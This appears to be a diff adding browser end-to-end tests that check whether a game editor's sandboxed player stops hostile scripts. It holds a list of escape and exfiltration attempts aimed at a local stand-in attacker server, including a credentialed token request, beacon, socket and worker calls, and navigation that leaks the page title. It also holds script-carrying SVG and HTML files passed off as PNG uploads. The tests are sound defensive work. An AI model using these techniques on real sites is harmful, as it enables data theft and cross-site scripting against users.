@@ -1,0 +1,92 @@
+import { createServer } from "node:http";
+import { expect, test } from "../app.ts";
+/** Everything that a hostile script may try. Each attempt logs `name: refused` or `name: DONE`. */
+const attacks = (evil) => `
+const tries = {
+  cookie: () => { if (document.cookie) return; document.cookie = "stolen=1"; if (!document.cookie) throw new Error("no cookies"); },
+  localStorage: () => globalThis.localStorage.length,
+  sessionStorage: () => globalThis.sessionStorage.length,
+  indexedDB: () => new Promise((done, failed) => { const r = globalThis.indexedDB.open("x"); r.onsuccess = done; r.onerror = () => failed(r.error); }),
+  parentDom: () => globalThis.parent.document.body.innerHTML,
+  topLocation: () => { globalThis.top.location.href = "${evil}/top"; },
+  open: () => { if (!globalThis.open("${evil}/open")) throw new Error("no window"); },
+  fetch: () => globalThis.fetch("${evil}/fetch"),
+  fetchHost: () => globalThis.fetch("/api/auth/token", { method: "POST", credentials: "include" }),
+  xhr: () => new Promise((done, failed) => { const x = new XMLHttpRequest(); x.open("GET", "${evil}/xhr"); x.onload = done; x.onerror = failed; x.send(); }),
+  beacon: () => { if (!navigator.sendBeacon("${evil}/beacon")) throw new Error("refused"); return new Promise((_, failed) => setTimeout(failed, 500)); },
+  socket: () => new Promise((done, failed) => { const s = new WebSocket("${evil.replace("http", "ws")}/socket"); s.onopen = done; s.onerror = failed; }),
+  events: () => new Promise((done, failed) => { const s = new EventSource("${evil}/events"); s.onopen = done; s.onerror = failed; }),
+  image: () => new Promise((done, failed) => { const i = new Image(); i.onload = done; i.onerror = failed; i.src = "${evil}/image"; }),
+  styleSheet: () => new Promise((done, failed) => { const l = document.createElement("link"); l.rel = "stylesheet"; l.onload = done; l.onerror = failed; l.href = "${evil}/style"; document.head.append(l); }),
+  script: () => import("${evil}/script"),
+  worker: () => new Promise((done, failed) => { const w = new Worker(URL.createObjectURL(new Blob(["fetch('${evil}/worker').then(() => postMessage(1), () => postMessage(0))"]))); w.onmessage = (e) => e.data ? done() : failed(); w.onerror = failed; }),
+  rtc: () => { new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:9" }] }); },
+  form: () => { const f = document.createElement("form"); f.action = "${evil}/form"; f.target = "_top"; document.body.append(f); f.submit(); return new Promise((_, failed) => setTimeout(failed, 500)); },
+  frame: () => { const f = document.createElement("iframe"); f.src = "${evil}/frame"; document.body.append(f); return new Promise((_, failed) => setTimeout(failed, 500)); },
+  leave: () => { location.href = "${evil}/leave?" + encodeURIComponent(document.title); return new Promise((_, failed) => setTimeout(failed, 500)); },
+};
+for (const [name, attempt] of Object.entries(tries)) {
+  try { await attempt(); console.log(name + ": DONE"); } catch { console.log(name + ": refused"); }
+}
+`;
+test("a hostile game reads nothing of the app, reaches no network and can't navigate its host", async ({ app, page }) => {
+    const reached = [];
+    const evilServer = createServer((request, response) => {
+        reached.push(request.url ?? "");
+        response.setHeader("access-control-allow-origin", "*");
+        response.end("export default 1");
+    });
+    await new Promise((resolve) => evilServer.listen(0, "127.0.0.1", resolve));
+    const evil = `http://127.0.0.1:${evilServer.address().port}`;
+    app.problems.push = () => 0;
+    await app.register();
+    await app.createProject("Platformer", "Trojan");
+    await page.getByRole("button", { name: "Play", exact: true }).click();
+    await expect(page.getByText(/\d+ fps/)).toBeVisible();
+    const frame = page.frames().find((candidate) => candidate.url().includes("/player/"));
+    if (!frame)
+        throw new Error("no player frame");
+    // The worst case: the attacker runs as the player page itself, past every guard of the engine.
+    const said = [];
+    page.on("console", (message) => said.push(message.text()));
+    await frame.evaluate(`(async () => {${attacks(evil)}})()`).catch(() => undefined);
+    await expect.poll(() => said.filter((line) => /: (refused|DONE)$/.test(line)).length).toBeGreaterThanOrEqual(20);
+    expect(said.filter((line) => line.endsWith(": DONE"))).toEqual([]);
+    expect(reached).toEqual([]);
+    expect(page.url()).toContain("/project/");
+    await expect(page.getByRole("button", { name: "Stop the game" })).toBeVisible();
+    await new Promise((resolve) => evilServer.close(resolve));
+});
+test("a game's own script gets none of the browser, and its errors name its line", async ({ app, page }) => {
+    await app.register();
+    await app.createProject("Empty", "Scripted");
+    await page.getByRole("button", { name: "Add a prefab" }).click();
+    const scene = page.getByRole("application", { name: "Scene" });
+    await scene.click({ position: { x: 300, y: 250 } });
+    await page.getByRole("button", { name: /^Edit prefab/ }).click();
+    await page.getByRole("button", { name: "Write a script" }).click();
+    await page.getByLabel("Script source").fill(`export default class extends Script {
+  onCreate() {
+    const names = ["window", "document", "fetch", "localStorage", "parent", "top", "XMLHttpRequest", "WebSocket", "indexedDB"];
+    console.log("seen: " + names.filter((name) => { try { return eval("typeof " + name) !== "undefined"; } catch { return false; } }).join());
+    const missing = undefined as unknown as { boom(): void };
+    missing.boom();
+  }
+}`);
+    await page.getByLabel("Script source").blur();
+    await app.saved();
+    await page.getByRole("button", { name: "Play", exact: true }).click();
+    const console = page.getByRole("region", { name: "Console" });
+    await expect(console.getByRole("button", { name: /:6$/ })).toBeVisible();
+    await expect(console.getByText(/boom/)).toBeVisible();
+});
+test("a hostile picture is refused or stays a picture", async ({ app, page }) => {
+    await app.register();
+    await app.createProject("Empty", "Gallery");
+    const chooser = page.getByLabel("Files to upload");
+    const svg = '<svg xmlns="http://www.w3.org/2000/svg"><script>parent.document.title="owned"</script></svg>';
+    await chooser.setInputFiles({ name: "evil.png", mimeType: "image/png", buffer: Buffer.from(svg) });
+    await expect(page.getByRole("list", { name: "Uploads" }).getByRole("alert")).toContainText("couldn't be read as a picture or sound");
+    await chooser.setInputFiles({ name: "page.png", mimeType: "image/png", buffer: Buffer.from("<html><script>alert(1)</script></html>") });
+    await expect(page.getByRole("list", { name: "Uploads" }).getByRole("alert")).toHaveCount(2);
+});
